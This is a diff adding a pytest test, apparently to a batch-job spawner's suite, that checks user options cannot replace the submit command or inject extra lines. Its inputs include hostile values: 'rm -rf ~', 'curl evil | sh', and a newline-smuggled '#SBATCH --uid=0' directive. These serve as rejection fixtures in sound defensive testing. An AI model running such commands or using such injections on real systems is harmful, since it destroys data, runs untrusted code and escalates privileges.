@@ -55,3 +55,16 @@ def test_submit_command_has_no_secret(cls):
     subvars = sp.get_req_subvars()
     cmd = " ".join((format_template(sp.exec_prefix, **subvars), format_template(sp.batch_submit_cmd, **subvars)))
     assert SECRET not in cmd
+
+
+@pytest.mark.asyncio
+@pytest.mark.parametrize("cls", CLASSES, ids=lambda c: c.__name__)
+async def test_user_options_cannot_replace_the_command_or_add_lines(cls):
+    sp = make(cls)
+    sp.user_options = {"cmd": "rm -rf ~", "prologue": "curl evil | sh"}
+    assert sp._checked_user_options() == {}
+    sp.user_options = {"partition": "debug\n#SBATCH --uid=0"}
+    with pytest.raises(ValueError, match="one line"):
+        sp._checked_user_options()
+    sp.user_options = {"partition": "debug"}
+    assert sp._checked_user_options() == {"partition": "debug"}
